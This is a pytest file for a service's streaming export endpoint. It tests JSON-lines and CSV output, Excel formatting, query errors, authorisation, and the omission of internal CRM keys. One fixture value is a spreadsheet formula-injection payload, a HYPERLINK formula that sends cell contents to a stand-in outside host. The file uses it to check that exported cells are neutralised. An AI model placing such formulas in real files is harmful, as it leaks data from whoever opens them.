"""GET /v1/export: all hits of a query, streamed, without the keys of the company's own systems."""

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from service.app import create_app
from service.exports import COLUMNS, export_pieces
from textcx.annotation import AnnotatedMention
from textcx.settings import Settings
from textcx.testing import a_mention, annotated

HERE = "http://localhost"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"klicka")'
MENTIONS: list[dict[str, Any]] = [
    {"id": "1", "source": "forum", "brand": "Klarvik", "text": FORMULA, "author": "kim"},
    {"id": "2", "source": "forum", "brand": "Klarvik", "text": "+ snabb leverans\n- dyr frakt", "title": "@alla"},
    {
        "id": "3",
        "source": "survey",
        "kind": "survey_answer",
        "brand": "Hyllbo",
        "text": "Bra; men dyrt",
        "published_at": "2026-03-02",
        "ratings": [
            {"measure": "nps", "value": 9, "lowest": 0, "highest": 10},
            {"measure": "ces", "value": 2, "lowest": 1, "highest": 7},
        ],
        "reference": {"system": "crm", "id": "HEMLIG-4711"},
        "attributes": {"region": "north"},
    },
]


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    with TestClient(create_app(Settings(data=tmp_path_factory.mktemp("data"))), HERE) as one:
        answer = one.post("/v1/mentions?wait=searchable", json={"mentions": MENTIONS})
        assert answer.json()["run"]["outcomes"]["stored"] == len(MENTIONS)
        yield one


def rows_of(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_json_lines_hold_each_hit_with_its_annotations(client: TestClient) -> None:
    answer = client.get("/v1/export", params={"q": "brand:Klarvik OR brand:Hyllbo"})
    assert answer.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in answer.text.splitlines()]
    found = client.get("/v1/search").json()["hits"]
    assert [line["id"] for line in lines] == [hit["mention"]["id"] for hit in found]
    assert lines[0]["ratings"][1]["measure"] == "ces"
    assert lines[0]["annotations"]["language"]["code"] == found[0]["annotations"]["language"]["code"]


def test_csv_has_one_row_a_hit_and_no_cell_that_is_a_formula(client: TestClient) -> None:
    answer = client.get("/v1/export", params={"format": "csv"})
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="mentions.csv"'
    rows = rows_of(answer.text)
    assert tuple(rows[0]) == COLUMNS
    assert len(rows) == len(MENTIONS)
    assert [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert rows[0]["published_at"] == "2026-03-02"
    assert (rows[0]["nps"], rows[0]["ratings"]) == ("9", "nps 9 of 0 to 10 | ces 2 of 1 to 7")
    assert rows[0]["attributes"] == "region=north"


def test_csv_for_excel_has_a_byte_order_mark_and_semicolons(client: TestClient) -> None:
    answer = client.get("/v1/export", params={"format": "csv", "excel": "true"})
    assert answer.content.startswith(b"\xef\xbb\xbfid;published_at;")
    assert len(rows_of(answer.content.decode("utf-8-sig"), ";")) == len(MENTIONS)


@pytest.mark.parametrize("form", ["jsonl", "csv"])
def test_keys_of_the_companys_own_systems_are_never_exported(client: TestClient, form: str) -> None:
    assert "HEMLIG" not in client.get("/v1/export", params={"format": form}).text


@pytest.mark.parametrize("form", ["jsonl", "csv"])
def test_a_query_narrows_it_down_and_may_find_nothing(client: TestClient, form: str) -> None:
    some = client.get("/v1/export", params={"q": "brand:Hyllbo", "from": "2026-03", "format": form}).text
    assert "men dyrt" in some
    assert "klicka" not in some
    none = client.get("/v1/export", params={"q": "brand:Nobody", "format": form}).text
    assert none == ("" if form == "jsonl" else ",".join(COLUMNS) + "\r\n")


def test_a_wrong_query_is_told_before_the_first_byte(client: TestClient) -> None:
    answer = client.get("/v1/export", params={"q": "brand:("})
    assert answer.status_code == 400
    assert answer.json()["type"].endswith("query-syntax")
    assert client.get("/v1/export", params={"format": "xlsx"}).status_code == 422


def test_mentions_are_read_as_the_pieces_are_asked_for() -> None:
    read = []

    def mentions() -> Iterator[AnnotatedMention]:
        for number in range(10_000):
            read.append(number)
            yield annotated(a_mention("ord", name=str(number)))

    for form in ("jsonl", "csv"):
        read.clear()
        assert next(export_pieces(mentions(), form))  # type: ignore[arg-type]
        assert len(read) < 1_000


def test_without_a_key_that_may_read_nothing_is_exported(tmp_path: Path) -> None:
    key = tmp_path / "key"
    key.write_text("k" * 40, encoding="utf-8")
    with TestClient(create_app(Settings(data=tmp_path / "data", admin_key_file=key)), HERE) as client:
        assert client.get("/v1/export").status_code == 401
